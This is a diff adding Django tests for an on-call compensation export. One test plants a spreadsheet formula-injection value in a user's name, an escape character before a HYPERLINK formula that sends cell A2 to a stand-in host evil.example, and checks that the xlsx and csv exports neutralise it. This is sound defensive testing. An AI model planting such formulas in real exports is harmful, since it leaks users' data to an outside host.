@@ -78,6 +78,34 @@ def test_a_control_character_in_a_name_still_downloads(client, finance_user, dat
     assert list(sheet.iter_rows(values_only=True))[1][1] == "Ada[0m Oncall"
 
 
+def test_a_formula_behind_a_control_character_is_neutralised_in_the_workbook(
+    client, finance_user, data
+):
+    """The workbook drops control characters: one before "=" must not leave a live formula."""
+    ada, _ = data
+    ada.first_name = '\x1b=HYPERLINK("http://evil.example/?"&A2,"Click")'
+    ada.save()
+    client.force_login(finance_user)
+    response = client.get(reverse("oncall:compensation_download", args=["xlsx"]), MARCH)
+    cell = load_workbook(io.BytesIO(response.content)).active["B2"]
+    assert cell.data_type == "s"
+    assert cell.value.startswith("'=HYPERLINK")
+    response = client.get(reverse("oncall:compensation_download", args=["csv"]), MARCH)
+    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
+    assert rows[0]["full_name"].startswith("'\x1b=HYPERLINK")
+
+
+def test_the_same_report_downloads_as_the_same_workbook_bytes(client, finance_user, data):
+    client.force_login(finance_user)
+    url = reverse("oncall:compensation_download", args=["xlsx"])
+    with time_machine.travel(datetime(2026, 4, 2, 9, tzinfo=UTC), tick=False):
+        first = client.get(url, MARCH).content
+    with time_machine.travel(datetime(2026, 7, 9, 17, 33, 5, tzinfo=UTC), tick=False):
+        second = client.get(url, MARCH).content
+    assert first == second
+    assert load_workbook(io.BytesIO(second)).active["A2"].value == "ada"
+
+
 def test_a_nul_in_the_team_picker_is_an_unknown_team(client, finance_user, data):
     client.force_login(finance_user)
     response = client.get(REPORT, {**MARCH, "team": "Pay\x00ments"})
